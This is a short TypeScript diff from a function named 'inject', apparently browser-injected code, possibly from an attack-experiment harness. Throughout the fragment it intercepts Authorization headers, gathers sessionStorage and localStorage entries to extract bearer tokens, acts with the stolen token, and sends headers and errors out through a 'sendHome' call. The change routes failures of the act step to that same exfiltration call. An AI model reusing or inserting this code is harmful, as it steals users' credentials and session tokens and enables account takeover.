@@ -94,7 +94,9 @@ export function inject({ aim, experiment, base, transfer, loot }: Injection): ()
       return overhear((authorization) => sendHome(authorization ?? 'no Authorization header'))
     case 'act': {
       const kept = ofExperiment([...Object.entries(sessionStorage), ...Object.entries(localStorage)])
-      return overhear((authorization) => void act(bearerIn(kept) ?? authorization))
+      return overhear((authorization) =>
+        act(bearerIn(kept) ?? authorization).catch((error: unknown) => sendHome(String(error))),
+      )
     }
   }
   return () => undefined
